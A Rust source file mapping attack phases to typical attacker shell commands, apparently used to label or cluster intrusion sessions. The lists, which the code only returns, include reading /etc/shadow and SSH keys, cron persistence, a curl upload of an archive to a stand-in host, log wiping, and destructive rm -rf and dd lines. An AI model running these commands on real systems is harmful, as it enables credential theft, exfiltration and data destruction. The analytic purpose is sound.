//! What people type in each phase, for descriptions that do not say.

use cluster::Phase;

/// Commands typical of a phase; for some there are none.
pub(crate) fn typical(phase: Phase) -> &'static [&'static str] {
    match phase {
        Phase::Discovery => &["uname -a", "id", "cat /proc/cpuinfo", "ip addr", "ps aux", "w"],
        Phase::CredentialAccess => &[
            "cat /etc/shadow",
            "cat ~/.ssh/id_rsa",
            "grep -ri password /etc",
            "cat ~/.bash_history",
        ],
        Phase::Persistence => &[
            "crontab -l",
            "echo '@reboot /tmp/.x' | crontab -",
            "mkdir -p ~/.ssh",
            "tee -a ~/.ssh/authorized_keys",
        ],
        Phase::LateralMovement => &[
            "cat ~/.ssh/known_hosts",
            "ssh -o BatchMode=yes root@10.0.0.5",
            "arp -an",
        ],
        Phase::Collection => &[
            "find / -name '*.sql' -size +1k",
            "tar czf /tmp/d.tgz /var/backups",
            "ls -la /home",
        ],
        Phase::Exfiltration => &[
            "curl -s -T /tmp/d.tgz http://203.0.113.9/u",
            "base64 /tmp/d.tgz",
            "rm -f /tmp/d.tgz",
        ],
        Phase::Execution => &["chmod +x /tmp/.x", "nohup /tmp/.x &", "sh -c /tmp/.x"],
        Phase::PrivilegeEscalation => &["sudo -l", "find / -perm -4000 -type f", "su -"],
        Phase::DefenseEvasion => &[
            "unset HISTFILE",
            "history -c",
            "rm -f /var/log/wtmp",
            "touch -r /bin/ls /tmp/.x",
        ],
        Phase::Impact => &["kill -9 -1", "rm -rf /var/www", "dd if=/dev/zero of=/dev/sda"],
        Phase::Reconnaissance
        | Phase::ResourceDevelopment
        | Phase::Weaponization
        | Phase::Delivery
        | Phase::SocialEngineering
        | Phase::Exploitation
        | Phase::CommandAndControl
        | Phase::Pivoting
        | Phase::Objectives => &[],
    }
}
